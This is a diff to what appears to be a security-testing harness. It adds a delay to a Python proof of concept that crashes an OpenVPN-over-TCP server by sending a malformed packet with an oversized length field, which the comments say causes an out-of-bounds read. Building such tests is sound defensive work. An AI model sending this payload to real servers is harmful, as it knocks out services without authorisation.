@@ -21,8 +21,10 @@ ATTACKER = network.CAMPUS
 # OpenVPN over TCP: a packet that begins a session, then one whose length field is greater than any packet's. The 5.01
 # of 2020 computes the size with 16 bits and reads beyond its buffer (CVE-2023-22308 by its symptom).
 CRASH = """
-import socket, sys
+import socket, sys, time
 peer = socket.create_connection((sys.argv[1], 443), 4)
+# The server writes of a connection a moment later; what it has not written when it crashes is lost.
+time.sleep(2)
 peer.sendall(bytes.fromhex("000e38aabbccddeeff11220000000000" + "ffff41"))
 peer.settimeout(4)
 sys.exit(0 if peer.recv(100) == b"" else 1)
